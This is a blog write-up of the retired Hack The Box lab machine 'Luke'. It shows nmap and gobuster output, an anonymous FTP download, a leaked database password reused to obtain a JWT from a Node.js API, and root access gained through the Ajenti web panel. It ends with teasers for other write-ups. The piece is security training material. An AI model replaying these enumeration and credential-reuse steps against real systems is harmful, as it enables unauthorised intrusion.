Skip to main content

Luke Writeup - Hack The Box(Retired)


Luke, a FreeBSD box created by HackTheBox user H4d3s, was an overall simple medium-difficultybox. Rooting this host is mostly a matter of taking advantage of its sensitive information disclosure, its password reuse, and its over-zealous privileges that are available from the web host. This was the first box where I had rooted the box before getting user.

Finding a Foothold

Initial Enumeration:

root@kali:~/htb/# nmap -sV -sC -oA nmap/Luke

Starting Nmap 7.80 ( ) at 2019-07-15 18:35 AKDT
Nmap scan report for
Host is up (0.12s latency).
Not shown: 995 closed ports
21/tcp   open  ftp     vsftpd 3.0.3+ (ext.1)
| ftp-anon: Anonymous FTP login allowed (FTP code 230)
|_drwxr-xr-x    2 0        0             512 Apr 14 12:35 webapp
| ftp-syst:
|   STAT:
| FTP server status:
|      Connected to
|      Logged in as ftp
|      TYPE: ASCII
|      No session upload bandwidth limit
|      No session download bandwidth limit|      Session timeout in seconds is 300
|      Control connection is plain text
|      Data connections will be plain text
|      At session startup, client count was 8
|      vsFTPd 3.0.3+ (ext.1) - secure, fast, stable
|_End of status
22/tcp   open  ssh?
80/tcp   open  http    Apache httpd 2.4.38 ((FreeBSD) PHP/7.3.3)
| http-methods:
|_  Potentially risky methods: TRACE
|_http-server-header: Apache/2.4.38 (FreeBSD) PHP/7.3.3
|_http-title: Luke
3000/tcp open  http    Node.js Express framework
|_http-title: Site doesn't have a title (application/json; charset=utf-8).
8000/tcp open  http    Ajenti http control panel
|_http-title: Ajenti

Service detection performed. Please report any incorrect results at .

Nmap indicates that the File Transfer Protocol (FTP) service is an open port and anonymous authentication is supported. We can authenticate and explore the service like so.

root@kali:~/htb/Luke# ftp
Connected to
220 vsFTPd 3.0.3+ (ext.1) ready...
Name ( anonymous
331 Please specify the password.
230 Login successful.
Remote system type is UNIX.
Using binary mode to transfer files.
ftp> dir
200 PORT command successful. Consider using PASV.
150 Here comes the directory listing.
drwxr-xr-x    2 0        0             512 Apr 14 12:35 webapp
226 Directory send OK.
ftp> cd webapp
250 Directory successfully changed.
ftp> dir -a
200 PORT command successful. Consider using PASV.
150 Here comes the directory listing.
drwxr-xr-x    2 0        0             512 Apr 14 12:35 .
drwxr-xr-x    3 0        0             512 Apr 14 12:29 ..
-r-xr-xr-x    1 0        0             306 Apr 14 12:37 for_Chihiro.txt
226 Directory send OK.
ftp> get for_Chihiro.txt
local: for_Chihiro.txt remote: for_Chihiro.txt
200 PORT command successful. Consider using PASV.
150 Opening BINARY mode data connection for for_Chihiro.txt (306 bytes).
226 Transfer complete.
306 bytes received in 0.00 secs(2.2978 MB/s)
ftp> exit
221 Goodbye.

Reading the contents of the file:

root@kali:~/htb/Luke# cat for_Chihiro.txt
Dear Chihiro !!

As you told me that you wanted to learn Web Development and Frontend, I can give you a little push by showing the sources of
the actual website I've created .
Normally you should know where to look but hurry up because I will delete them soon because of our security policies !The file indicates that there is source code stored somewhere on the web host. Exploring the site, we find the site's Fully Qualified Domain Name (FQDN) in the author's contact. We can add this to our hosts file so that will continue resolving for us:

Directory Busting/Fuzzing:

We can scan the host with gobuster and enumerate available directory listings:

root@kali:~/htb/Luke# gobuster dir -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -x html,php,txt,conf -t 100
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:
[+] Threads:        100
[+] Wordlist:       /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt
[+] Status codes:   200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Extensions:     html,php,txt,conf
[+] Timeout:        10s
2019/09/13 11:56:22 Starting gobuster
/login.php (Status: 200)
/member (Status: 301)
/management (Status: 401)
/css (Status: 301)
/index.html (Status: 200)
/js (Status: 301)
/vendor (Status: 301)/config.php (Status: 200)
/LICENSE (Status: 200)
2019/09/13 12:06:47 Finished

After some quick enumeration with sqlmap on the login portal, it seems like SQL injection is not the intended path. There are, however, credentials for the mysql database server's root user on the site's config.php page:

Unfortunately, we cannot use these credentials at the login portal here either. We can, however, enumerate the other web services on the box for open directories:

root@kali:~/htb/Luke# gobuster dir -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -x html,php,txt -t 100
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:
[+] Threads:        100
[+] Wordlist:       /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt
[+] Status codes:   200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Extensions:     txt,html,php
[+] Timeout:        10s
2019/09/13 12:19:54 Starting gobuster
/login (Status: 200)
/users (Status: 200)
/Login (Status: 200)
/Users (Status: 200)
2019/09/13 12:36:47 FinishedCustom Exploitation with JSON:

Curling the login page shows a json response asking for us to authenticate:

root@kali:~/htb/Luke# curl -v
*   Trying
* Connected to ( port 3000 (#0)
> GET /Login HTTP/1.1
> Host:
> User-Agent: curl/7.65.3
> Accept: */*
* Mark bundle as not supporting multiuse
< HTTP/1.1 200 OK
< X-Powered-By: Express
< Content-Type: application/json; charset=utf-8
< Content-Length: 13< ETag: W/"d-PH4Bpb6SoaW0jE2UrQrH8JM2BiI"
< Date: Sat, 14 Sep 2019 07:25:13 GMT
< Connection: keep-alive
* Connection #0 to host left intact
"please auth"

Researching similar json applications that require certain parameters to be authenticated, yields a functioning template for our purposes:

curl -H "Content-Type: application/json" -X POST -d '{"username":"root","password":"Zk6heYCyv6ZE9Xcg"}' http:/

Our payload works with curl, but the username isn't valid. If we manually fuzz the username a little, the host returns a JSON Web Token (JWT):

According to this article, we can use curl and the JWT as a cookie to authenticate as admin and read some of the forbidden pages:

root@kali:~/htb/Luke# TOKEN=$(curl -s -H "Content-Type: application/json" -X POST -d '{"username":"admin","password":"Zk6heYCyv6ZE9Xcg"}' | jq -r '.token')
root@kali:~/htb/Luke# echo $TOKEN
root@kali:~/htb/Luke# curl -H 'Accept: application/json' -H "Authorization: Bearer ${TOKEN}"
[{"ID":"1","name":"Admin","Role":"Superuser"},{"ID":"2","name":"Derry","Role":"Web Admin"},{"ID":"3","name":"Yuri","Role":"Beta Tester"},{"ID":"4","name":"Dory","Role":"Supporter"}]

We can also enumerate additional information about each user because the usernames are also valid sub-directories of the User directory:

We can try to use these credentials in some other areas. Although none of these credentials are valid for the login portal from earlier (nor are they valid ssh credentials), Derry's credentials are valid for the management page found earlier with gobusteron port 80:

Navigating to config.json, we find a password for the Ajenti Server Admin Panel on port 8000:

Acquiring root.txt and user.txt

Ajenti Admin Panel:

If we manually fuzz the credentials, we quickly realize we can authenticate with the username root and the password in the previous section. Once we sign in, we have access to the admin panel:

Off the bat, there are two quick ways to read root.txt (as well as user.txt). One option is using the file manager or notepad:

We can read these files because the Ajenti service is ran by the root user. We can also use the web terminal to get a (web) shell as root:

We pwned the root user!
Even though Luke was a medium-difficulty box, I found it much easier than most medium boxes. It did introduce me to JSON Web Tokens (JWT) and made me realize why most web services ask that you do not run the service as root or have dedicated low-privileged users (www-data, mysql, home users, etc). This is an excellent box for beginners.

Rayce Toms
Student Researcher


Popular posts from this blog

Bastion Writeup - Hack The Box (Retired)

Summary: Bastion was one of the first few easy boxes that initially introduced me to HackTheBox . Created by L4mpje , a security enthusiast and hobbyist hacker, this box covers realistic Windows environment misconfigurations like unauthenticated file-shares and vulnerable apps with insecure password storage. Finding a Foothold Initial Enumeration: root@kali : ~/htb/ # nmap -sV -sC -oA nmap/Bastion Starting Nmap 7.80 ( )at 2019-09-05 13:31 AKDT Nmap scan report for Host is up (0.50s latency). Not shown: 996 closed ports PORT STATE SERVICE VERSION 22/tcp open ssh OpenSSH for_Windows_7.9 (protocol 2.0) | ssh-hostkey: | 2048 3a:56:ae:75:3c:78:0e:c8:56:4d:cb:1c:22:bf:45:8a (RSA) | 256 cc:2e:56:ab:19:97:d5:bb:03:fb:82:cd:63:da:68:01 (ECDSA) |_ 256 93:5f:5d:aa:ca:9f:53:e7:f2:82:e6:64:a8:a3:a0:18 (ED25519) 135/tcp open msrpc Microsoft Windows RPC 139/tcp open netbios-ssn Microsoft Windows netbios-ssn

Helpline Writeup - Hack The Box (Retired)

Summary: Helpline is one of the more advanced and difficult machines on Hack The Box . There is more than one solution to many of the parts of this machine; however, it ultimately leads to some necessary cryptography at the end. What's moreinteresting is that this box highlights the limitations of the NT AUTHORITY\SYSTEM user. The box was created by egre55 , a security researcher, sysadmin, and penetration tester. Initial Foothold Scanning the host: nmap -sV -sC -oA nmap/Helpline Results: PORT   STATE   SERVICE         VERSION 135/tcp   open  msrpc         Microsoft Windows RPC 445/tcp   open  microsoft-ds? 5985/tcp  open  http          Microsoft HTTPAPI httpd 2.0 (SSDP/UPnP) |_http-server-header: Microsoft-HTTPAPI/2.0 |_http-title: Not Found 8080/tcp  open  http-proxy    - ... |     HTTP/1.1200 OK ... |_http-title: ManageEngine ServiceDesk Plus 49667/tcp open  msrpc         Microsoft Windows RPC Visiting the http server on port 8080, w